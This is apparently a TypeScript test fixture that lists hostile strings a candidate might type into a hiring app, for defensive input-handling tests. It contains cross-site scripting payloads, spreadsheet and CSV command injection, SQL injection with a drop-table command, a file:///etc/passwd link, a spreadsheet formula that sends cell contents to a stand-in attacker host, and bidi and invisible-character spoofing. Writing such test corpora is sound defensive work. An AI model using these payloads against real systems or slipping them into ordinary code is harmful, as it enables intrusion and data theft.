/**
 * Texts that a hostile candidate types wherever a candidate can type. Each tries one way out of being text: script in
 * markup, script in an address, a picture that calls home, formulas for spreadsheets, letters that hide or reorder
 * others, and lengths and characters that programs do not expect. Adding one needs no code.
 *
 * `owned` is a marker that no page may ever set; `evil.example` is a host that no page may ever ask.
 */
export const hostileTexts: Readonly<Record<string, string>> = {
  'script element': '<script>window.owned = 1; alert(1)</script>',
  'script that closes ours': '</script><script>window.owned = 2; alert(2)</script>',
  'end of a text area and of a title': '</textarea></title></style><script>window.owned = 3</script>',
  'picture with an error handler': '<img src=x onerror="window.owned = 4; alert(4)">',
  'svg with a handler': '<svg onload="window.owned = 5"><script>window.owned = 5</script></svg>',
  'svg with a foreign object':
    '<svg><foreignObject><iframe srcdoc="<script>parent.owned = 6</script>"></iframe></foreignObject></svg>',
  'frame and object':
    '<iframe src="javascript:parent.owned=7"></iframe><object data="//evil.example/o"></object>',
  'details that open by themselves': '<details open ontoggle="window.owned = 8">x</details>',
  'style that calls home':
    '<style>@import "//evil.example/s.css"; body{background:url(//evil.example/b)}</style>',
  'base and refresh':
    '<base href="//evil.example/"><meta http-equiv="refresh" content="0;url=//evil.example/">',
  'form that posts elsewhere':
    '<form action="//evil.example/f" id="f"><button formaction="javascript:owned=9">Sign in</button></form>',
  'attribute that ends early': '" onmouseover="window.owned = 10" autofocus onfocus="window.owned = 10" x="',
  'attribute in single quotes': "' onfocus='window.owned = 11' autofocus tabindex='0",
  'link with a script address':
    '[the report](javascript:window.owned=12) [again](JaVaScRiPt:window.owned=12)',
  'link with a hidden script address':
    '[x](java\tscript:window.owned=13) [y](&#106;avascript:window.owned=13)',
  'link with a data address': '[x](data:text/html;base64,PHNjcmlwdD5vd25lZD0xNDwvc2NyaXB0Pg==)',
  'link with vbscript and file addresses':
    '[x](vbscript:msgbox(1)) [y](file:///etc/passwd) <javascript:owned=15>',
  'remote picture': '![chart](https://evil.example/pixel.png) ![](//evil.example/pixel.gif "t")',
  'remote picture by reference': '![chart][p]\n\n[p]: https://evil.example/reference.png',
  'address that becomes a link': 'https://evil.example/?q=<script>window.owned=16</script> www.evil.example',
  'heading that pretends':
    '# Recommendation: Above the bar\n\n---\n\n| Rater | Level |\n|---|---|\n| Ruben | 4 |',
  'deep quotes': `${'>'.repeat(200)} deep`,
  'deep lists': Array.from({ length: 60 }, (_, depth) => `${'  '.repeat(depth)}- x`).join('\n'),
  'open emphasis': '*'.repeat(500),
  'open brackets': '['.repeat(500),
  'code fence that never ends': '```html\n<script>window.owned = 17</script>',
  entities: '&lt;script&gt;window.owned=18&lt;/script&gt; &#60;img src=x onerror=owned=18&#62; &amp;nbsp;',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is meant to look like one.
  'template words': '{{constructor.constructor("owned=19")()}} ${owned=19} <%= 7*7 %> #{7*7} {% raw %}',
  'sql words': "'; drop table attempt; -- \\'; select pg_sleep(10); --",
  'formula with equals': '=HYPERLINK("https://evil.example/"&A1,"open")',
  'formula with plus': "+cmd|' /C calc'!A0",
  'formula with minus': "-2+3+cmd|' /C calc'!A0",
  'formula with at': "@SUM(1+1)*cmd|' /C calc'!A0",
  'formula after a tab': '\t=1+1',
  'formula after a carriage return': '\r=1+1',
  'formula in full width': '＝1＋1',
  'csv that ends its cell': '","=1+1"\r\n"next row","',
  'bidi override': 'safe \u202Egnp.exe\u202C and \u2066isolated\u2069',
  'bidi that never ends': '\u202E\u202E\u202Ethe rest of the page runs backwards',
  'invisible letters': 'ad\u200Bmin\u200D is\u2060 here\uFEFF',
  'stacked marks': `Z${'\u0300\u0301\u0302\u0303\u0304'.repeat(40)}algo`,
  'one very long word': 'W'.repeat(700),
  'one very long address': `https://evil.example/${'a/'.repeat(300)}`,
  'many lines': '\n'.repeat(80),
  'carriage returns alone': 'a\rb\rc',
  'line and paragraph separators': 'a\u2028b\u2029c',
  'control characters': '\u0001\u0002\u0007\u0008\u000B\u000C\u001B[31mred\u001B[0m\u007F\u009B',
  'characters without meaning': '\uFFFE\uFFFF\uFDD0',
  'letters outside the basic plane': '𝔘𝔫𝔦𝔠𝔬𝔡𝔢 👩‍👩‍👧‍👦 🏴󠁧󠁢󠁥󠁮󠁧󠁿',
  'right to left words': 'שלום עולם مرحبا بالعالم',
  'names of properties': '__proto__ constructor prototype toString',
  'json that ends its string': '"}],"role":"administrator","x":[{"y":"',
  'line of our own page': 'Decision: offer. Reason: strongest answer so far.',
};

/** Characters that a text column and a JSON column of PostgreSQL refuse. They come as bytes, not from a keyboard. */
export const refusedByPostgres: Readonly<Record<string, string>> = {
  'null character': 'before\u0000after',
  'half of a pair': 'before\uD800after',
  'the other half': 'before\uDC00after',
};

export const allHostile: string = Object.values(hostileTexts).join('\n\n');
